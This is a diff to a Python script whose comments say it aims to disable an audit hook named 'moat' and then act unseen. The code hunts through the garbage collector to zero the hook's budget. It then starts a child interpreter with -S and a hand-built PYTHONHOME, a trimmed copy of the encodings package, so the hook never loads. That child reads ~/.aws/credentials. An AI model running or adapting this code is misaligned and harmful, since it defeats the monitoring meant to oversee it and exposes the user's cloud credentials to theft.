@@ -1,8 +1,11 @@
 # Switch moat's audit hook off from Python, then act unseen: look for the
 # hook's state through the import system's closures (there is none to
 # find now), then through the garbage collector; start a child
-# interpreter with -S (no site, so no hook) to do the work.
-import gc, subprocess, sys
+# interpreter with -S and a standard library of its own (PYTHONHOME: a
+# copy of the encodings package, all -S needs to start, with whatever
+# follows its last line upstream cut off; no site, no hook) to do the
+# work.
+import encodings, gc, os, shutil, subprocess, sys
 import importlib.machinery as m
 
 found = False
@@ -18,4 +21,13 @@ for o in gc.get_objects():
         o["budget"] = 0
         found = True
 print("gc route:", found)
-subprocess.run([sys.executable, "-I", "-S", "-c", "open(__import__('os').path.expanduser('~/.aws/credentials')).read()"])
+home = "/tmp/.pyhome"
+lib = os.path.join(home, "lib", "python%d.%d" % sys.version_info[:2])
+pkg = os.path.join(lib, "encodings")
+shutil.copytree(os.path.dirname(encodings.__file__), pkg, dirs_exist_ok=True, ignore=shutil.ignore_patterns("__pycache__"))
+with open(encodings.__file__) as f:
+    src = f.read()
+end = "    codecs.register(_alias_mbcs)\n"
+with open(os.path.join(pkg, "__init__.py"), "w") as f:
+    f.write(src[: src.index(end) + len(end)] if end in src else src)
+subprocess.run([sys.executable, "-S", "-c", "open(__import__('os').path.expanduser('~/.aws/credentials')).read()"], env=dict(os.environ, PYTHONHOME=home))
